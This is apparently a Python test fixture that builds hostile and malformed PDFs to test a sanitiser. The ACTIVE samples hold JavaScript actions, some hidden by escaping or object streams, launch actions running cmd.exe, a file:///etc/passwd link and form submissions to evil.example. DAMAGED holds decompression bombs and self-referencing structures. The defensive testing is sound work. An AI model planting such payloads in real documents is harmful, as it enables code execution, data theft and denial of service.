"""Files that mean harm, or met with it: made anew each time, some of them larger than anybody would want to keep."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable, Mapping

OPENS = "opens"
"""The file may be looked at (whatever is seen), or be refused as broken or too much: what counts is that it ends."""

_Objects = Mapping[int, bytes]


def _dice(seed: int) -> random.Random:
    return random.Random(seed)


def _noise(seed: int, size: int) -> bytes:
    return _dice(seed).randbytes(size)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
TEXT = b"BT /F 20 Tf 40 300 Td (Guten Tag) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<<" + entries + b"/Length %d>>stream\n" % len(content) + content + b"\nendstream"


def pdf(changes: _Objects | None = None, *, trailer: bytes = b"", catalog: bytes = b"", page: bytes = b"") -> bytes:
    """One page that says "Guten Tag", with other objects in their place.

    Args:
        changes: object number → body.
        trailer: more entries of the trailer.
        catalog: more entries of the catalogue.
        page: more entries of the page.
    """
    objects = {1: CATALOG[:-2] + catalog + b">>", 2: PAGES, 3: PAGE[:-2] + page + b">>", 4: stream(TEXT), 5: FONT}
    objects.update(changes or {})
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    size = max(objects) + 1
    table = [b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(size)]
    start = len(out)
    out += b"xref\n0 %d\n" % size + b"".join(table)
    out += b"trailer\n<</Size %d/Root 1 0 R" % size + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _image(entries: bytes, content: bytes) -> bytes:
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</I 6 0 R>>")
    body = stream(content, b"/Type/XObject/Subtype/Image" + entries)
    return pdf({3: page, 4: stream(b"q 300 0 0 400 0 0 cm /I Do Q"), 6: body})


def _flate_bomb(layers: int, size: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    content = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    for _ in range(layers - 1):
        content = zlib.compress(content, 9)
    return pdf({4: stream(content, b"/Filter[" + b"/FlateDecode" * layers + b"]")})


def _operators_bomb() -> bytes:
    """Form objects that each draw the next one ten times: 10^10 words on one page."""
    forms = {
        10 + level: stream(
            b"/X Do " * 10 if level < 9 else TEXT,
            b"/Type/XObject/Subtype/Form/BBox[0 0 300 400]/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
            % (11 + min(level, 8)),
        )
        for level in range(10)
    }
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 10 0 R>>")
    return pdf({3: page, 4: stream(b"/X Do"), **forms})


def _deep(opening: bytes, closing: bytes, levels: int = 200_000) -> bytes:
    return opening * levels + closing * levels


def _object_stream_loop() -> bytes:
    """Two object streams, each said to lie in the other."""
    rows = [(0, 0, 65535), (2, 4, 0), (2, 5, 0), (2, 4, 1), (2, 5, 0), (2, 4, 0)]
    head = b"%PDF-1.7\n"
    table = b"".join(bytes([kind]) + where.to_bytes(4, "big") + more.to_bytes(2, "big") for kind, where, more in rows)
    entries = b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R"
    return head + b"6 0 obj\n" + stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def _xref_loop() -> bytes:
    whole = pdf()
    start = whole.rindex(b"xref\n0 ")
    return whole.replace(b"/Root 1 0 R", b"/Prev %d/Root 1 0 R" % start)


def _signed_numbers() -> bytes:
    return pdf().replace(b"/Count 1", b"/Count -2147483648").replace(b"/Size 6", b"/Size 2147483647")


def _truncated(seed: int) -> bytes:
    whole = _many_pages(40)
    return whole[: _dice(seed).randrange(20, len(whole) - 20)]


def _flipped(seed: int) -> bytes:
    rng = _dice(seed)
    whole = bytearray(_many_pages(12))
    for _ in range(30):
        whole[rng.randrange(9, len(whole))] = rng.randrange(256)
    return bytes(whole)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (10 + n) for n in range(count))
    pages = {10 + n: PAGE for n in range(count)}
    return pdf({2: b"<</Type/Pages/Kids[" + kids + b"]/Count %d>>" % count, **pages})


def _font(content: bytes, kind: bytes) -> bytes:
    font = b"<</Type/Font/Subtype/%s/BaseFont/Evil/FirstChar 0/LastChar 255/Widths 8 0 R/FontDescriptor 6 0 R>>"
    descriptor = b"<</Type/FontDescriptor/FontName/Evil/Flags 4/FontBBox[0 0 1000 1000]/%s 7 0 R>>"
    key = {b"TrueType": b"FontFile2", b"Type1": b"FontFile"}[kind]
    widths = b"[" + b"500 " * 256 + b"]"
    return pdf({5: font % kind, 6: descriptor % key, 7: stream(content), 8: widths})


def _type3_loop() -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[.001 0 0 .001 0 0]/FirstChar 71/LastChar 71"
        b"/Widths[1000]/Encoding<</Differences[71/g]>>/CharProcs<</g 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>"
    )
    return pdf({5: font, 6: stream(b"1000 0 d0 BT /F 1000 Tf (GGGG) Tj ET")})


def _tile() -> bytes:
    """A pattern of which a billion tiles go onto the page."""
    page = PAGE.replace(b"/Resources<<", b"/Resources<</Pattern<</P 6 0 R>>")
    entries = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .00001/YStep .00001/Resources<<>>"
    )
    body = {3: page, 4: stream(b"/Pattern cs /P scn 0 0 300 400 re f"), 6: stream(b"0 0 1 1 re f", entries)}
    return pdf(body)


def _function_loop() -> bytes:
    page = PAGE.replace(b"/Resources<<", b"/Resources<</Shading<</S 6 0 R>>")
    shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 7 0 R>>"
    function = b"<</FunctionType 3/Domain[0 1]/Functions[7 0 R 7 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    return pdf({3: page, 4: stream(b"/S sh"), 6: shading, 7: function})


def _locked(password: str) -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user=password, owner="owner"))
    return out.getvalue()


def _attached(content: bytes) -> bytes:
    file = b"<</Type/Filespec/F(x.pdf)/UF(x.pdf)/EF<</F 7 0 R>>>>"
    names = b"/Names<</EmbeddedFiles<</Names[(x.pdf)6 0 R]>>>>/AF[6 0 R]"
    return pdf({6: file, 7: stream(content, b"/Type/EmbeddedFile")}, catalog=names)


def _action(action: bytes) -> bytes:
    return pdf({6: action}, catalog=b"/OpenAction 6 0 R")


def _note(annotation: bytes) -> bytes:
    return pdf({6: annotation}, page=b"/Annots[6 0 R]")


def _link(action: bytes) -> bytes:
    return _note(b"<</Type/Annot/Subtype/Link/Rect[40 290 200 330]/A" + action + b">>")


def _xfa() -> bytes:
    return pdf({6: stream(b"<xdp:xdp/>")}, catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>")


def _field_loop() -> bytes:
    field = b"<</FT/Tx/T(a)/Parent 7 0 R/Kids[7 0 R]/Type/Annot/Subtype/Widget/Rect[10 10 90 30]/P 3 0 R>>"
    other = b"<</FT/Tx/T(b)/Parent 6 0 R/Kids[6 0 R]/Type/Annot/Subtype/Widget/Rect[10 40 90 60]/P 3 0 R>>"
    return pdf({6: field, 7: other}, catalog=b"/AcroForm<</Fields[6 0 R 7 0 R]>>", page=b"/Annots[6 0 R 7 0 R]")


def _additional() -> bytes:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    field = (
        b"<</FT/Tx/T(a)/Type/Annot/Subtype/Widget/Rect[10 10 90 30]/AA<</K %b/C %b>>/A<</S/SubmitForm/F"
        b"(http://evil.example/)>>>>" % (script, script)
    )
    form = b"/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>/AA<</WC %b>>" % script
    return pdf({6: field}, catalog=form, page=b"/Annots[6 0 R]/AA<</O %b>>" % script)


def _hidden_in_stream() -> bytes:
    """The script lies in an object stream, where nobody who searches the bytes finds it."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(ACTIVE["javascript on opening"]())) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _older_revision() -> bytes:
    first = ACTIVE["javascript on opening"]()
    out = bytearray(first)
    place = len(out)
    out += b"1 0 obj\n" + CATALOG + b"\nendobj\n"
    start = len(out)
    before = first.rindex(b"xref\n0 ")
    out += b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 7/Root 1 0 R/Prev %d>>\n" % (place, before)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _disguised() -> bytes:
    """The name of the action is written with escapes, and the action is used as a font as well."""
    page = PAGE.replace(b"<</F 5 0 R>>", b"<</F 5 0 R/G 6 0 R>>")
    return pdf({3: page, 6: b"<</#53/Java#53cript/J#53(app.alert(1))>>"}, catalog=b"/OpenAction 6 0 R")


ACTIVE: dict[str, Callable[[], bytes]] = {
    "javascript on opening": lambda: _action(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "javascript by name": lambda: pdf(
        {6: b"<</S/JavaScript/JS(app.alert(1))>>"}, catalog=b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>"
    ),
    "javascript in fields, pages and the form": _additional,
    "javascript in an object stream": _hidden_in_stream,
    "javascript in an older revision": _older_revision,
    "javascript with an escaped name": _disguised,
    "javascript behind a harmless jump": lambda: _link(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>"),
    "javascript behind a link": lambda: _link(b"<</S/URI/URI(javascript:alert(1))>>"),
    "launch on opening": lambda: _action(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "launch behind a link": lambda: _link(b"<</S/Launch/F(calc.exe)>>"),
    "link to a file": lambda: _link(b"<</S/URI/URI(file:///etc/passwd)>>"),
    "remote go-to": lambda: _link(b"<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>"),
    "go-to into an attachment": lambda: _link(b"<</S/GoToE/T<</R/C/N(x.pdf)>>>>"),
    "form that sends itself": lambda: _action(b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>"),
    "import of data": lambda: _action(b"<</S/ImportData/F(//evil.example/a.fdf)>>"),
    "xfa form": _xfa,
    "attached file": lambda: _attached(b"MZ" + bytes(200)),
    "pdf in a pdf": lambda: _attached(pdf()),
    "attached to the page": lambda: _note(
        b"<</Type/Annot/Subtype/FileAttachment/Rect[9 9 30 30]/FS<</Type/Filespec/F(x)/EF<</F 4 0 R>>>>>>"
    ),
    "rich media": lambda: _note(
        b"<</Type/Annot/Subtype/RichMedia/Rect[9 9 99 99]/RichMediaContent<</Assets<<>>>>/RichMediaSettings<<>>>>"
    ),
    "film": lambda: _note(b"<</Type/Annot/Subtype/Movie/Rect[9 9 99 99]/Movie<</F(//evil.example/a.avi)>>/A true>>"),
    "rendition": lambda: _note(
        b"<</Type/Annot/Subtype/Screen/Rect[9 9 99 99]/A<</S/Rendition/OP 0/R<</S/MR>>/JS(app.alert(1))>>>>"
    ),
    "content in another file": lambda: pdf({4: stream(b"", b"/F(//evil.example/content)")}),
    "usage rights": lambda: pdf(catalog=b"/Perms<</UR3<</Type/Sig>>>>/Requirements[<</S/EnableJavaScripts>>]"),
    "portfolio": lambda: pdf(catalog=b"/Collection<</View/H>>"),
}
"""Files that open and would do something; nothing of it may be left in what is sent."""


DAMAGED: dict[str, tuple[Callable[[], bytes], str]] = {
    "decompression bomb, 1 GiB": (lambda: _flate_bomb(1, 1 << 30), OPENS),
    "decompression bomb in three layers": (lambda: _flate_bomb(3, 1 << 30), OPENS),
    "ten billion words in forms": (_operators_bomb, OPENS),
    "form that draws itself": (
        lambda: pdf(
            {
                3: PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>"),
                4: stream(b"/X Do"),
                6: stream(b"/X Do /X Do", b"/Subtype/Form/BBox[0 0 300 400]/Resources<</XObject<</X 6 0 R>>>>"),
            }
        ),
        OPENS,
    ),
    "endless pattern": (_tile, OPENS),
    "function that calls itself": (_function_loop, OPENS),
    "glyph that draws itself": (_type3_loop, OPENS),
    "page of 20 km": (lambda: pdf().replace(b"[0 0 300 400]", b"[0 0 56692913 56692913]"), OPENS),
    "page without size": (lambda: pdf().replace(b"[0 0 300 400]", b"[5 5 5 5]"), OPENS),
    "page of no number": (lambda: pdf().replace(b"[0 0 300 400]", b"[0 0 1e999 nan]"), OPENS),
    "page like a thread": (lambda: pdf().replace(b"[0 0 300 400]", b"[0 0 1 14400]"), OPENS),
    "picture of 60,000 × 60,000": (
        lambda: _image(
            b"/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
            zlib.compress(bytes(1 << 26), 9),
        ),
        OPENS,
    ),
    "picture of 2^31 rows": (
        lambda: _image(b"/Width 2147483647/Height 2147483647/BitsPerComponent 16/ColorSpace/DeviceCMYK", b"x"),
        OPENS,
    ),
    "fax picture with no end": (
        lambda: _image(
            b"/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"
            b"/DecodeParms<</K -1/Columns 100000>>",
            bytes(1 << 20),
        ),
        OPENS,
    ),
    "jpeg 2000 of nonsense": (
        lambda: _image(b"/Width 9/Height 9/Filter/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + _noise(1, 5_000)),
        OPENS,
    ),
    "jbig2 of nonsense": (
        lambda: _image(
            b"/Width 9/Height 9/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
            _noise(2, 5_000),
        ),
        OPENS,
    ),
    "picture that masks itself": (
        lambda: _image(b"/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 6 0 R", b"x"),
        OPENS,
    ),
    "page tree in a circle": (lambda: pdf({2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}), OPENS),
    "page tree without pages": (lambda: pdf({2: b"<</Type/Pages/Kids[]/Count 0>>"}), "file_broken"),
    "a million pages that are one": (
        lambda: pdf({2: b"<</Type/Pages/Kids[" + b"3 0 R " * 1_000_000 + b"]/Count 1000000>>"}),
        "file_broken",
    ),
    "outlines in a circle": (
        lambda: pdf(
            {
                6: b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
                7: b"<</Title(a)/Parent 6 0 R/Next 7 0 R/First 7 0 R>>",
            },
            catalog=b"/Outlines 6 0 R",
        ),
        OPENS,
    ),
    "fields in a circle": (_field_loop, OPENS),
    "names in a circle": (
        lambda: pdf({6: b"<</Kids[6 0 R 6 0 R]>>"}, catalog=b"/Names<</Dests 6 0 R/EmbeddedFiles 6 0 R>>"),
        OPENS,
    ),
    "object streams in each other": (_object_stream_loop, "file_broken"),
    "xref that comes after itself": (_xref_loop, OPENS),
    "xref that points nowhere": (lambda: pdf().replace(b"startxref\n", b"startxref\n9999"), OPENS),
    "xref of other offsets": (lambda: pdf().replace(b"00000 n", b"00000 f"), OPENS),
    "numbers beyond all numbers": (_signed_numbers, OPENS),
    "a length that is itself": (lambda: pdf({4: b"<</Length 4 0 R>>stream\nx\nendstream"}), OPENS),
    "wrong filters": (lambda: pdf({4: stream(TEXT, b"/Filter[/LZWDecode/DCTDecode/JBIG2Decode/Nix]")}), OPENS),
    "a hundred filters": (lambda: pdf({4: stream(TEXT, b"/Filter[" + b"/ASCIIHexDecode" * 100 + b"]")}), OPENS),
    "arrays 200,000 deep": (lambda: pdf({6: _deep(b"[", b"]")}, catalog=b"/X 6 0 R"), OPENS),
    "dictionaries 200,000 deep": (lambda: pdf({6: _deep(b"<</A", b">>")}, catalog=b"/X 6 0 R"), OPENS),
    "content 200,000 deep": (lambda: pdf({4: stream(b"q " * 200_000 + TEXT)}), OPENS),
    "marks 200,000 deep": (lambda: pdf({4: stream(b"/A BMC " * 200_000 + TEXT)}), OPENS),
    "truetype of nonsense": (lambda: _font(_noise(3, 20_000), b"TrueType"), OPENS),
    "truetype with a true head": (
        lambda: _font(b"\0\1\0\0\0\x0c\0\x80\0\3\0@" + _noise(4, 9_000), b"TrueType"),
        OPENS,
    ),
    "type 1 of nonsense": (lambda: _font(b"%!PS-AdobeFont-1.0\n" + _noise(5, 9_000), b"Type1"), OPENS),
    "font without a descriptor": (lambda: pdf({5: b"<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]>>"}), OPENS),
    **{f"cut off at random, {seed}": (lambda seed=seed: _truncated(seed), OPENS) for seed in range(6)},
    **{f"bytes changed at random, {seed}": (lambda seed=seed: _flipped(seed), OPENS) for seed in range(8)},
    "locked": (lambda: _locked("geheim"), "file_locked"),
    "only a head": (lambda: b"%PDF-1.7\n", "file_broken"),
    "a head and zeros": (lambda: b"%PDF-1.7\n" + bytes(1 << 20), "file_broken"),
    "pdf behind a zip": (lambda: b"PK\3\4" + bytes(60) + pdf() + b"PK\5\6" + bytes(18), OPENS),
    "pdf that is html": (lambda: b"<html><script>alert(1)</script><!--" + pdf() + b"-->", OPENS),
    "pdf behind a gif": (lambda: b"GIF89a" + bytes(900) + pdf(), OPENS),
    "empty": (lambda: b"", "not_a_pdf"),
    "zip": (lambda: b"PK\3\4" + bytes(4_000), "not_a_pdf"),
    "program": (lambda: b"MZ" + bytes(4_000), "not_a_pdf"),
    "html": (lambda: b"<html><body>%PDF", "not_a_pdf"),
    "svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "not_a_pdf"),
    "postscript": (lambda: b"%!PS\n{ } loop", "not_a_pdf"),
    "far too long": (lambda: b"%PDF-1.7\n" + bytes(65 << 20), "file_too_much"),
}
"""Files and what becomes of them: `OPENS`, or the code of the sentence."""
